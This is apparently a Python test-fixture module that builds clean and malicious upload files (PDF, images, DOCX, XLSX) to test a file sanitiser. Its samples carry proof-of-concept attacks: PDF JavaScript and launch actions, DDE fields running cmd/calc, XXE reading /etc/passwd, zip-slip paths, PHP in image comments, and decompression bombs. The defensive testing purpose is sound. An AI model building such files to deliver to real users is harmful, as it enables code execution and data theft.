"""The files that somebody might send, good and bad, made at run time: (name, bytes, what is to become of it).

What is to become of it is a kind (it is taken, cleaned) or the word of a refusal.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import docx
import pikepdf
import xlsxwriter
from PIL import Image, PngImagePlugin

PLANTED = "Quibblewick"
"""Stands where metadata stand; must be gone from whatever is kept."""

Case = tuple[str, bytes, str]


# good ones to start from ----------------------------------------------------------------------------------------------------------


def jpeg(size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (90, 130, 60)).save(out, "JPEG", **more)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), mode: str = "RGB", **more: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", **more)
    return out.getvalue()


def telling_jpeg() -> bytes:
    """A camera's picture: author, place, software, thumbnail, comment."""
    exif = Image.Exif()
    exif[0x013B], exif[0x8298], exif[0x0110], exif[0x0131] = PLANTED, PLANTED, PLANTED, PLANTED
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 52.0, 44.0), 3: "W", 4: (0.0, 25.0, 12.0)})
    exif.get_ifd(0x8769).update({0x9286: PLANTED.encode()})
    return jpeg(exif=exif, comment=PLANTED.encode(), xmp=f"<x:xmpmeta>{PLANTED}</x:xmpmeta>".encode())


def telling_png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", PLANTED)
    info.add_itxt("XML:com.adobe.xmp", f"<x>{PLANTED}</x>", zip=True)
    exif = Image.Exif()
    exif[0x013B] = PLANTED
    return png(pnginfo=info, exif=exif)


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **save: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    page = made.pages[0]
    page.obj["/Contents"] = made.make_stream(b"BT /F1 12 Tf 20 20 Td (Plait) Tj ET")
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def word(change: Callable[[docx.document.Document], object] | None = None) -> bytes:
    made = docx.Document()
    made.add_paragraph("Straw and braid.")
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def sheet(change: Callable[[xlsxwriter.Workbook, object], object] | None = None) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    first = book.add_worksheet("Straw")
    first.write(0, 0, "braid")
    if change:
        change(book, first)
    book.close()
    return out.getvalue()


def rezip(
    data: bytes,
    change: dict[str, bytes | Callable[[bytes], bytes] | None],
    *,
    more: Callable[[zipfile.ZipFile], object] | None = None,
) -> bytes:
    """A zip with parts replaced, added, or left out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as was, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in was.namelist():
            to = change.get(name, was.read(name))
            if to is not None:
                new.writestr(name, to(was.read(name)) if callable(to) else to)
        for name, to in change.items():
            if name not in was.namelist() and isinstance(to, bytes):
                new.writestr(name, to)
        if more:
            more(new)
    return out.getvalue()


def put(before: str, what: str) -> Callable[[bytes], bytes]:
    def change(value: bytes) -> bytes:
        assert before.encode() in value, (before, value[:400])
        return value.replace(before.encode(), (what + before).encode(), 1)

    return change


def swap(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(value: bytes) -> bytes:
        assert old.encode() in value, old
        return value.replace(old.encode(), new.encode())

    return change


BODY, TYPES, RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(
    type: str, target: str, *, mode: str = "", rels: str = RELS, full: str = ""
) -> dict[str, bytes | Callable[[bytes], bytes] | None]:
    extra = f' TargetMode="{mode}"' if mode else ""
    return {
        rels: put(
            "</Relationships>", f'<Relationship Id="rId900" Type="{full or OFFICE + "/" + type}" Target="{target}"{extra}/>'
        )
    }


def words_in(inner: str) -> bytes:
    return rezip(word(), {BODY: put("<w:sectPr", inner)})


def field(code: str, pieces: int = 1) -> bytes:
    cut = [code[i::1][: len(code) // pieces + 1] for i in range(0, len(code), len(code) // pieces + 1)]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in cut)
    return words_in(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


# PDF ----------------------------------------------------------------------------------------------------------------------------------


def action(**d: object) -> Callable[[pikepdf.Pdf], object]:
    return lambda p: p.Root.__setitem__("/OpenAction", pikepdf.Dictionary({f"/{k}": v for k, v in d.items()}))


def _script_by_name(p: pikepdf.Pdf) -> None:
    js = p.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)"))
    p.Root["/Names"] = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js])))


def _attached(p: pikepdf.Pdf) -> None:
    p.attachments["a.exe"] = pikepdf.AttachedFileSpec(p, b"MZ")


def _annotated(**d: object) -> Callable[[pikepdf.Pdf], object]:
    def change(p: pikepdf.Pdf) -> None:
        a = pikepdf.Dictionary({"/Type": pikepdf.Name("/Annot"), "/Rect": [0, 0, 9, 9], **{f"/{k}": v for k, v in d.items()}})
        p.pages[0].obj["/Annots"] = pikepdf.Array([p.make_indirect(a)])

    return change


def _telling(p: pikepdf.Pdf) -> None:
    p.docinfo["/Author"], p.docinfo["/Producer"], p.docinfo["/Title"] = PLANTED, PLANTED, PLANTED
    p.Root["/Metadata"] = p.make_stream(f"<x:xmpmeta>{PLANTED}</x:xmpmeta>".encode())
    page = p.pages[0].obj
    page["/PieceInfo"] = pikepdf.Dictionary(Maker=pikepdf.Dictionary(Private=PLANTED))
    page["/Thumb"] = p.make_stream(PLANTED.encode())
    _annotated(Subtype=pikepdf.Name("/Text"), T=PLANTED, Contents=PLANTED)(p)
    photo = p.make_stream(telling_jpeg(), Type=pikepdf.Name("/XObject"), Subtype=pikepdf.Name("/Image"), Width=40, Height=30,
        ColorSpace=pikepdf.Name("/DeviceRGB"), BitsPerComponent=8, Filter=pikepdf.Name("/DCTDecode"))  # fmt: skip
    photo["/Metadata"] = p.make_stream(PLANTED.encode())
    page["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
    page["/Contents"] = p.make_stream(b"q 40 0 0 30 0 0 cm /Im0 Do Q")


def _deep(p: pikepdf.Pdf) -> None:
    one = pikepdf.Array([])
    for _ in range(400):
        one = pikepdf.Array([one])
    p.Root["/Deep"] = one


def saved_again(data: bytes) -> bytes:
    """An incremental save: the first words are still in the file, and no page shows them."""
    with pikepdf.open(io.BytesIO(data)) as p:
        n = p.pages[0].obj["/Contents"].objgen[0]
    return data + f"{n} 0 obj\n<</Length 3>>stream\nq Q\nendstream\nendobj\n".encode() + _xref(data, n, len(data))


def _xref(data: bytes, n: int, at: int) -> bytes:
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size, root = re.search(rb"/Size (\d+)", data), re.search(rb"/Root (\d+ \d+ R)", data)
    assert size and root
    start = at + len(f"{n} 0 obj\n<</Length 3>>stream\nq Q\nendstream\nendobj\n")
    table = f"xref\n{n} 1\n{at:010d} 00000 n \ntrailer\n<</Size {size[1].decode()}/Root {root[1].decode()}/Prev {previous}>>\nstartxref\n{start}\n%%EOF\n"
    return table.encode()


def pdfs() -> Iterator[Case]:
    name, good = pikepdf.Name, pdf()
    yield "plain.pdf", good, "pdf"
    yield "packed.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"
    yield "telling.pdf", pdf(_telling), "pdf"
    yield (
        "with a link.pdf",
        pdf(_annotated(Subtype=name("/Link"), A=pikepdf.Dictionary(S=name("/URI"), URI="https://example.org/"))),
        "pdf",
    )
    yield "goes to a page.pdf", pdf(action(S=name("/GoTo"), D=pikepdf.Array([0, name("/Fit")]))), "pdf"
    yield "PDF IN CAPITALS.PDF.EXE", good, "pdf"
    yield "script at opening.pdf", pdf(action(S=name("/JavaScript"), JS="app.alert(1)")), "scripts"
    yield "script by name.pdf", pdf(_script_by_name), "scripts"
    yield (
        "script on a page.pdf",
        pdf(lambda p: p.pages[0].obj.__setitem__("/AA", pikepdf.Dictionary(O=pikepdf.Dictionary(S=name("/JavaScript"), JS="1")))),
        "scripts",
    )
    yield "script in a stream.pdf", pdf(lambda p: action(S=name("/JavaScript"), JS=p.make_stream(b"app.alert(1)"))(p)), "scripts"
    yield "script escaped.pdf", pdf(action(S=name("/JavaScript"), JS="1")).replace(b"/JavaScript", b"/J#61vaScript"), "broken"
    yield "script packed away.pdf", pdf(_script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate), "scripts"
    yield "launches.pdf", pdf(action(S=name("/Launch"), F="cmd.exe")), "launches"
    yield "submits.pdf", pdf(action(S=name("/SubmitForm"), F="https://example.org")), "launches"
    yield "imports.pdf", pdf(action(S=name("/ImportData"), F="a.fdf")), "launches"
    yield "goes elsewhere.pdf", pdf(action(S=name("/GoToR"), F="\\\\host\\share")), "launches"
    yield (
        "link to a file.pdf",
        pdf(_annotated(Subtype=name("/Link"), A=pikepdf.Dictionary(S=name("/URI"), URI="file:///etc/passwd"))),
        "launches",
    )
    yield (
        "link with script.pdf",
        pdf(_annotated(Subtype=name("/Link"), A=pikepdf.Dictionary(S=name("/URI"), URI="javascript:alert(1)"))),
        "launches",
    )
    yield "attachment.pdf", pdf(_attached), "attachments"
    yield "attached to a page.pdf", pdf(_annotated(Subtype=name("/FileAttachment"))), "attachments"
    yield "rich media.pdf", pdf(_annotated(Subtype=name("/RichMedia"))), "attachments"
    yield "film.pdf", pdf(_annotated(Subtype=name("/Movie"))), "attachments"
    yield (
        "form of the old kind.pdf",
        pdf(lambda p: p.Root.__setitem__("/AcroForm", pikepdf.Dictionary(XFA=p.make_stream(b"<xdp/>")))),
        "form_xfa",
    )
    yield (
        "stream elsewhere.pdf",
        pdf(lambda p: p.Root.__setitem__("/X", p.make_stream(b"", F=pikepdf.String("http://example.org/a")))),
        "remote",
    )
    yield "password.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "encrypted"
    yield "empty password.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="")), "encrypted"
    yield "zip behind.pdf", good + rezip(word(), {}), "two_in_one"
    yield "page behind.pdf", good + b"<html><script>alert(1)</script>", "two_in_one"
    yield "in front.pdf", b"\n" + good, "unknown_kind"
    yield "cut.pdf", good[: len(good) // 2], "broken"
    yield "only a head.pdf", b"%PDF-1.7\n", "broken"
    yield "no page.pdf", (lambda p, o: (p.save(o), o.getvalue())[1])(pikepdf.new(), io.BytesIO()), "broken"
    yield "deep.pdf", pdf(_deep), "bomb"
    yield "scrambled.pdf", b"%PDF-1.7\n" + random.Random(1).randbytes(4000) + b"\n%%EOF", "broken"
    yield "many pages.pdf", pdf(lambda p: [p.pages.append(p.pages[0]) for _ in range(2_001)]), "too_many_pages"


# pictures --------------------------------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    body = b"a\0\0" + zlib.compress(bytes(60_000_000))
    good = png()
    return good[:33] + chunk(b"zTXt", body) + good[33:]


def moving() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "PNG", save_all=True, append_images=[Image.new("RGB", (9, 9), (1, 2, 3))])
    return out.getvalue()


def other_picture(format: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, format)
    return out.getvalue()


def pictures() -> Iterator[Case]:
    for mode in ("RGB", "RGBA", "L", "LA", "P", "1", "I;16"):
        yield f"mode {mode}.png", png(mode=mode), "png"
    yield "see through.png", png(mode="P", transparency=0), "png"
    yield "telling.png", telling_png(), "png"
    yield "plain.jpg", jpeg(), "jpeg"
    yield "telling.jpg", telling_jpeg(), "jpeg"
    yield "progressive.jpeg", jpeg(progressive=True), "jpeg"
    cmyk = io.BytesIO()
    Image.new("CMYK", (9, 9)).save(cmyk, "JPEG")
    yield "cmyk.jpg", cmyk.getvalue(), "jpeg"
    yield "picture called document.docx", png(), "png"
    yield "page behind.png", png() + b"<html><script>alert(1)</script></html>", "png"
    yield "zip behind.jpg", jpeg() + rezip(word(), {}), "jpeg"
    yield "program in a comment.jpg", jpeg(comment=b"<?php system('id') ?>"), "jpeg"
    yield "30,000 by 30,000.png", png_of(30_000, 30_000), "too_many_pixels"
    yield "60,000 by 1.png", png_of(60_000, 1, bytes(180_001)), "too_many_pixels"
    yield "no pixels.png", png_of(100, 100), "broken"
    yield "zero wide.png", png_of(0, 10), "broken"
    yield "words that swell.png", text_bomb(), "broken"
    yield "moving.png", moving(), "moving"
    yield "cut.png", png((400, 400))[:60], "broken"
    yield "cut.jpg", jpeg((400, 400))[:300], "broken"
    yield "only a head.png", b"\x89PNG\r\n\x1a\n", "broken"
    yield "only a head.jpg", b"\xff\xd8\xff", "broken"
    yield "page as picture.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "unknown_kind"
    yield "page behind a head.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "broken"
    yield "drawing with script.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "unknown_kind"
    for format in ("GIF", "BMP", "TIFF", "WEBP", "ICO"):
        yield f"another.{format.lower()}", other_picture(format), "unknown_kind"


# DOCX and XLSX ---------------------------------------------------------------------------------------------------------------------------


def link(name: str, to: str) -> Callable[[zipfile.ZipFile], object]:
    info = zipfile.ZipInfo(name)
    info.external_attr = 0o120777 << 16
    return lambda z: z.writestr(info, to)


def bomb_42() -> bytes:
    """Small outside, large inside."""
    return rezip(word(), {"word/media/zeros.xml": bytes(50_000_000)})


def pictured(kind: str = "JPEG", data: bytes | None = None) -> bytes:
    return word(lambda d: d.add_picture(io.BytesIO(data or telling_jpeg())))


def commented() -> bytes:
    def change(d: docx.document.Document) -> None:
        d.add_comment(d.paragraphs[0].runs, text=PLANTED, author=PLANTED, initials="Q")
        d.core_properties.author = d.core_properties.last_modified_by = d.core_properties.title = PLANTED

    return rezip(word(change), {BODY: swap("<w:p>", '<w:p w:rsidR="00AB12CD" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" w14:paraId="12345678">'),
        "docProps/custom.xml": f"<p>{PLANTED}</p>".encode(), "customXml/item1.xml": f"<p>{PLANTED}</p>".encode(),
        **related("customXml", "../customXml/item1.xml")})  # fmt: skip


def commented_sheet() -> bytes:
    def change(book: xlsxwriter.Workbook, first: object) -> None:
        first.write_comment("A1", PLANTED, {"author": PLANTED})  # type: ignore[attr-defined]
        book.set_properties({"author": PLANTED, "company": PLANTED, "comments": PLANTED})
        book.set_custom_property("Owner", PLANTED)

    path = f'<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="/home/{PLANTED}/"/>'
    return rezip(sheet(change), {"xl/workbook.xml": put("<bookViews", path)})


def documents() -> Iterator[Case]:
    good = word()
    yield "plain.docx", good, "docx"
    yield "telling.docx", commented(), "docx"
    yield "with a picture.docx", pictured(), "docx"
    yield "with a link.docx", rezip(good, related("hyperlink", "https://example.org/", mode="External")), "docx"
    yield "table of contents.docx", field(" TOC \\o &quot;1-3&quot; "), "docx"
    yield "document called picture.png", good, "docx"
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "unknown_kind"
    yield "password.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "encrypted"
    macro = {TYPES: swap("wordprocessingml.document.main+xml", "x"), "word/vbaProject.bin": b"\0"}
    yield (
        "macros.docm",
        rezip(
            good,
            {
                TYPES: swap("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"),
                "word/vbaProject.bin": b"\xd0\xcf",
            },
        ),
        "macros",
    )
    yield (
        "macros under a good name.docx",
        rezip(
            good,
            {
                "word/vbaProject.bin": b"\xd0\xcf",
                TYPES: put("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
            },
        ),
        "macros",
    )
    yield "macros without a type.docx", rezip(good, {"word/vbaProject.bin": b"\xd0\xcf"}), "macros"
    yield "no type at all.docx", rezip(good, macro), "macros"
    yield "other package.docx", rezip(good, {TYPES: swap("wordprocessingml.document.main+xml", "something+xml")}), "unknown_kind"
    yield "active x.docx", rezip(good, {"word/activeX/activeX1.xml": b"<ax/>"}), "embedded"
    yield "object inside.docx", rezip(good, {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "embedded"
    yield "object by relation.docx", rezip(good, {"word/x.xml": b"<a/>", **related("oleObject", "x.xml")}), "embedded"
    yield (
        "chunk of another kind.docx",
        rezip(good, {"word/x.html": b"<script>alert(1)</script>", **related("aFChunk", "x.html")}),
        "embedded",
    )
    yield "object in the text.docx", words_in("<w:p><w:r><w:object/></w:r></w:p>"), "embedded"
    yield (
        "template elsewhere.docx",
        rezip(
            good,
            {
                "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="https://example.org/a.dotm" TargetMode="External"/></Relationships>'.encode()
            },
        ),
        "remote",
    )
    yield (
        "template on a share.docx",
        rezip(good, related("attachedTemplate", "file:///\\\\host\\a.dotm", mode="External")),
        "remote",
    )
    yield "picture elsewhere.docx", rezip(good, related("image", "https://example.org/pixel.png", mode="External")), "remote"
    yield "frame elsewhere.docx", rezip(good, related("frame", "https://example.org/", mode="External")), "embedded"
    yield "link to a file.docx", rezip(good, related("hyperlink", "file:///etc/passwd", mode="External")), "remote"
    yield "link with script.docx", rezip(good, related("hyperlink", "javascript:alert(1)", mode="External")), "remote"
    yield (
        "relation of a strict kind.docx",
        rezip(
            good,
            related(
                "",
                "https://example.org/a.dotm",
                mode="External",
                full="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
            ),
        ),
        "remote",
    )
    yield "dde.docx", field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "fields"
    yield "dde in pieces.docx", field(" DDEAUTO cmd /k calc ", 5), "fields"
    yield "picture by field.docx", field(' INCLUDEPICTURE "https://example.org/a" \\d '), "fields"
    yield "text by field.docx", field(' INCLUDETEXT "/etc/passwd" '), "fields"
    yield (
        "simple field.docx",
        words_in('<w:p><w:fldSimple w:instr=" DDE cmd "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
        "fields",
    )
    yield (
        "tracked insertion.docx",
        words_in(f'<w:p><w:ins w:id="1" w:author="{PLANTED}"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'),
        "changes",
    )
    yield (
        "tracked deletion.docx",
        words_in(f'<w:p><w:del w:id="1" w:author="{PLANTED}"><w:r><w:delText>x</w:delText></w:r></w:del></w:p>'),
        "changes",
    )
    yield "tracked format.docx", words_in(f'<w:p><w:pPr><w:pPrChange w:id="1" w:author="{PLANTED}"/></w:pPr></w:p>'), "changes"
    yield "entities.docx", rezip(good, {BODY: lambda v: v.replace(b"?>", b'?><!DOCTYPE a [<!ENTITY b "c">]>', 1)}), "markup"
    yield (
        "entity from a file.docx",
        rezip(
            good,
            {"word/settings.xml": lambda v: v.replace(b"?>", b'?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', 1)},
        ),
        "markup",
    )
    yield (
        "entities in UTF-16.docx",
        rezip(
            good,
            {
                "word/settings.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode(
                    "utf-16"
                )
            },
        ),
        "markup",
    )
    yield "ten thousand deep.docx", rezip(good, {BODY: b"<a>" * 10_000 + b"</a>" * 10_000}), "bomb"
    yield "250 deep.docx", rezip(good, {"word/settings.xml": b"<a>" * 250 + b"</a>" * 250}), "markup"
    yield "not XML.docx", rezip(good, {BODY: b"<w:document"}), "broken"
    yield (
        "drawing inside.docx",
        rezip(
            good,
            {
                "word/media/a.svg": b"<svg/>",
                TYPES: put("</Types>", '<Default Extension="svg" ContentType="image/svg+xml"/>'),
                **related("image", "media/a.svg"),
            },
        ),
        "picture_kind",
    )
    yield "poisoned picture.docx", rezip(pictured(), {"word/media/image1.jpg": png_of(30_000, 30_000)}), "too_many_pixels"
    yield "unrelated program.docx", rezip(good, {"word/eicar.com": eicar(), "hidden/readme.txt": b"x"}), "docx"
    yield "bomb.docx", bomb_42(), "bomb"
    yield "many parts.docx", rezip(good, {f"a/{n}.xml": b"<a/>" for n in range(2_001)}), "bomb"
    yield "slip.docx", rezip(good, {"../../etc/cron.d/x": b"x"}), "paths"
    yield "slip the other way.docx", rezip(good, {"..\\..\\x": b"x"}), "paths"
    yield "absolute.docx", rezip(good, {"/etc/passwd": b"x"}), "paths"
    yield "drive.docx", rezip(good, {"C:/x": b"x"}), "paths"
    yield "link.docx", rezip(good, {}, more=link("word/link.xml", "/etc/passwd")), "paths"
    yield "the same name twice.docx", rezip(good, {"WORD/document.xml": b"<a/>"}), "paths"
    yield "picture in front.docx", jpeg() + good, "jpeg"
    yield "behind.docx", good + b"MZ", "two_in_one"
    yield "comment of a zip.docx", _zip_comment(good), "two_in_one"
    yield "cut.docx", good[: len(good) // 2], "broken"
    yield "locked parts.docx", _flagged(good), "encrypted"
    yield (
        "just a zip.zip",
        rezip(good, dict.fromkeys(zipfile.ZipFile(io.BytesIO(good)).namelist()) | {"a.txt": b"x"}),
        "unknown_kind",
    )
    yield (
        "both.docx",
        rezip(
            good,
            {
                TYPES: put(
                    "</Types>",
                    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
                )
            },
        ),
        "two_in_one",
    )


def sheets() -> Iterator[Case]:
    good, book, rels = sheet(), "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
    yield "plain.xlsx", good, "xlsx"
    yield "telling.xlsx", commented_sheet(), "xlsx"
    yield "sum.xlsx", sheet(lambda b, s: s.write_formula(1, 0, "=SUM(B1:B9)")), "xlsx"
    yield "hidden sheet.xlsx", sheet(lambda b, s: b.add_worksheet("Names").hide()), "hidden_sheets"
    yield (
        "very hidden sheet.xlsx",
        rezip(sheet(lambda b, s: b.add_worksheet("Names")), {book: swap('name="Names"', 'name="Names" state="veryHidden"')}),
        "hidden_sheets",
    )
    yield "dde.xlsx", sheet(lambda b, s: s.write_formula(1, 0, "=cmd|'/c calc'!A1")), "fields"
    yield "web service.xlsx", sheet(lambda b, s: s.write_formula(1, 0, '=WEBSERVICE("https://example.org/"&A1)')), "fields"
    yield "link by formula.xlsx", sheet(lambda b, s: s.write_formula(1, 0, '=HYPERLINK("https://example.org/"&A1,"x")')), "fields"
    yield "old macro by name.xlsx", sheet(lambda b, s: b.define_name("Auto_Open", '=EXEC("calc")')), "fields"
    yield (
        "other book.xlsx",
        rezip(
            good,
            {
                "xl/externalLinks/externalLink1.xml": b"<a/>",
                **related("externalLink", "externalLinks/externalLink1.xml", rels=rels),
            },
        ),
        "remote",
    )
    yield (
        "connection.xlsx",
        rezip(good, {"xl/connections.xml": b"<a/>", **related("connections", "connections.xml", rels=rels)}),
        "remote",
    )
    yield (
        "macros.xlsm",
        rezip(good, {TYPES: swap("openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")}),
        "macros",
    )
    yield "object.xlsx", rezip(good, {"xl/embeddings/a.bin": b"x"}), "embedded"
    yield (
        "binary.xlsb",
        rezip(
            good,
            {
                TYPES: swap(
                    "openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "ms-excel.sheet.binary.macroEnabled.main"
                )
            },
        ),
        "macros",
    )


def eicar() -> bytes:
    """The harmless test file of virus scanners, put together here so that no scanner takes this file for it."""
    return b"X5O!P%@AP[4" + b"\\" + b"PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def others() -> Iterator[Case]:
    yield "empty.pdf", b"", "empty"
    yield "nothing but zeros.png", bytes(4096), "unknown_kind"
    yield "text.txt", b"only words", "unknown_kind"
    yield "eicar.com", eicar(), "unknown_kind"
    yield "program.exe", b"MZ" + bytes(500), "unknown_kind"
    yield "program.elf", b"\x7fELF" + bytes(500), "unknown_kind"
    yield "page.html", b"<html><body onload=alert(1)>", "unknown_kind"
    yield "table.csv", b"=cmd|'/c calc'!A1,1", "unknown_kind"
    yield "letter.rtf", b"{\\rtf1 \\object}", "unknown_kind"
    yield "archive.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50), "unknown_kind"
    yield "archive.gz", zlib.compress(bytes(50), wbits=31), "unknown_kind"
    yield "empty.zip", b"PK\x05\x06" + bytes(18), "unknown_kind"
    yield "too large.png", b"\x89PNG\r\n\x1a\n" + bytes(20 * 2**20), "too_large"
    yield "calendar.ics", b"BEGIN:VCALENDAR", "unknown_kind"
    yield "mail.eml", b"From: a@example.org\r\n\r\n", "unknown_kind"
    yield "shortcut.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "unknown_kind"


def _zip_comment(data: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as z:
        z.comment = b"<?php system('id') ?>"
    return out.getvalue()


def _flagged(data: bytes) -> bytes:
    """Every part marked as encrypted."""
    made = bytearray(data)
    for sign, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        for m in re.finditer(re.escape(sign), data):
            made[m.start() + at] |= 1
    return bytes(made)


def corpus() -> list[Case]:
    return [*pdfs(), *pictures(), *documents(), *sheets(), *others()]
